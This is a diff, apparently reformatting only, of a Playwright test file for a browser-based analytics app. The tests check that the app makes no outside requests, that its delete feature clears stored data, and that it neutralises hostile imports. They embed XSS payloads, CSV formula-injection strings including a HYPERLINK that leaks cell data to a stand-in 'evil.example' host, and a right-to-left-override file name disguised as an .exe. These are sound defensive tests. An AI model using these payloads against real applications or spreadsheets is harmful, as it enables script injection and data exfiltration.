@@ -2,7 +2,11 @@ import { expect, test } from '@playwright/test';
 import { readFileSync } from 'node:fs';
 import { fileFromText, fixture, importFiles } from './support/import';
 
-test('a full import → analysis → planner run requests nothing but the site’s own static files', async ({ page, context, baseURL }) => {
+test('a full import → analysis → planner run requests nothing but the site’s own static files', async ({
+	page,
+	context,
+	baseURL
+}) => {
 	const origin = new URL(baseURL!).origin;
 	const basePath = new URL(baseURL!).pathname;
 	const requests: string[] = [];
@@ -30,7 +34,10 @@ test('a full import → analysis → planner run requests nothing but the site�
 		const path = new URL(url).pathname;
 		if (!path.startsWith(basePath)) return true;
 		const rest = path.slice(basePath.length);
-		return !(rest === '' || /^(_app\/|favicon\.svg$|service-worker\.js$|[a-z-]+(\/[a-z-]+)?(\.html)?$|__data\.json)/.test(rest));
+		return !(
+			rest === '' ||
+			/^(_app\/|favicon\.svg$|service-worker\.js$|[a-z-]+(\/[a-z-]+)?(\.html)?$|__data\.json)/.test(rest)
+		);
 	});
 	expect(notStatic, 'requests that are not the site’s own files').toEqual([]);
 	// No request carries data: no query strings but the pages’ own parameters, no bodies.
@@ -45,12 +52,13 @@ test('hostile text in an imported file is shown as text and neutralised in expor
 		await dialog.dismiss();
 	});
 	const hostile = '<img src=x onerror=alert(1)>';
-	const csv = [
-		'order_id,customer_id,order_date,total,product',
-		`1,"${hostile}",2023-01-05,10.00,"<script>alert(2)</script>"`,
-		'2,=HYPERLINK("http://evil.example/?leak="&A1),2023-01-06,20.00,@SUM(1+1)',
-		`3,"${hostile}",2023-02-05,5.00,+cmd`
-	].join('\n') + '\n';
+	const csv =
+		[
+			'order_id,customer_id,order_date,total,product',
+			`1,"${hostile}",2023-01-05,10.00,"<script>alert(2)</script>"`,
+			'2,=HYPERLINK("http://evil.example/?leak="&A1),2023-01-06,20.00,@SUM(1+1)',
+			`3,"${hostile}",2023-02-05,5.00,+cmd`
+		].join('\n') + '\n';
 	await page.goto('./data');
 	await importFiles(page, fileFromText('hostile.csv', csv), 'Hostile <b>name</b>');
 	await expect(page.getByTestId('dataset-row').getByRole('rowheader')).toHaveText('Hostile <b>name</b>');
@@ -61,7 +69,9 @@ test('hostile text in an imported file is shown as text and neutralised in expor
 
 	const downloadPromise = page.waitForEvent('download');
 	await page.getByRole('button', { name: 'Export the customers of One-time buyers as CSV' }).click();
-	const lines = readFileSync((await (await downloadPromise).path())!, 'utf8').trim().split('\r\n');
+	const lines = readFileSync((await (await downloadPromise).path())!, 'utf8')
+		.trim()
+		.split('\r\n');
 	expect(lines[1].startsWith(`"'=HYPERLINK(""http://evil.example/?leak=""&A1)"`)).toBe(true);
 
 	await page.goto('./data');
@@ -85,7 +95,13 @@ test('Delete everything clears data sets, scenarios and settings after confirmin
 		const open = indexedDB.open('retention-lab');
 		await new Promise((resolve) => (open.onsuccess = resolve));
 		const tx = open.result.transaction('scenarios', 'readwrite');
-		tx.objectStore('scenarios').add({ calculator: 'crr', name: 'kept?', inputs: { s: '1' }, createdAt: 1, updatedAt: 1 });
+		tx.objectStore('scenarios').add({
+			calculator: 'crr',
+			name: 'kept?',
+			inputs: { s: '1' },
+			createdAt: 1,
+			updatedAt: 1
+		});
 		await new Promise((resolve) => (tx.oncomplete = resolve));
 		open.result.close();
 	});
@@ -109,13 +125,19 @@ test('Delete everything clears data sets, scenarios and settings after confirmin
 			counts.push(await new Promise<number>((resolve) => (request.onsuccess = () => resolve(request.result))));
 		}
 		open.result.close();
-		return { counts, caches: (await caches.keys()).length, settings: Object.keys(localStorage).filter((k) => k.startsWith('retention-lab:')) };
+		return {
+			counts,
+			caches: (await caches.keys()).length,
+			settings: Object.keys(localStorage).filter((k) => k.startsWith('retention-lab:'))
+		};
 	});
 	expect(left.counts.every((n) => n === 0)).toBe(true);
 	expect(left.settings).toEqual([]);
 });
 
-test('a hostile data-set name is isolated on screen and made safe in file names; an address naming no data set says so', async ({ page }) => {
+test('a hostile data-set name is isolated on screen and made safe in file names; an address naming no data set says so', async ({
+	page
+}) => {
 	const name = '=HYPERLINK("http://evil")\u202Eslx.exe';
 	await page.goto('./data');
 	await importFiles(page, fixture('orders/woocommerce_orders.csv'), name);
